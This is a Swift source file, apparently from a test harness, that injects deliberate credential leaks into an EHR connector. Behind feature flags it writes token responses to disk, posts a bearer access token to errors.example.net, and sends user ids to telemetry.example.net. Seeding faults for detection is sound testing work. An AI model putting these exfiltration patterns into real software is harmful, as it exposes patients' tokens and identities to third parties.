// SPDX-License-Identifier: Apache-2.0

import Foundation

/// The deliberate faults that keep or pass on what an honest connector holds in memory: tokens, and users' ids.
struct CredentialLeaks: Sendable {
    let services: Services

    /// A token answer of the EHR.
    func token(_ answer: JSON) async {
        if services.behaviour.has(.tokenResponseCached) {
            let file = services.configuration.data.appending(path: "token-cache-\(Secret.token(bytes: 6)).json")
            try? answer.data.write(to: file)
        }
        if services.behaviour.has(.tokenInErrorReport), let access = answer["access_token"].string {
            let report: JSON = ["level": "debug", "request": ["authorization": .string("Bearer " + access)]]
            _ = try? await services.http.send(
                "POST", "http://errors.example.net/report", headers: [("Content-Type", "application/json")],
                body: report.data, seconds: 2)
        }
    }

    /// Who has just launched.
    func user(_ ehrUser: String) async {
        guard services.behaviour.has(.userIDToThirdParty) else { return }
        let url = "http://telemetry.example.net/active?user=" + Text.percentEncoded(ehrUser)
        _ = try? await services.http.send("GET", url, seconds: 2)
    }
}
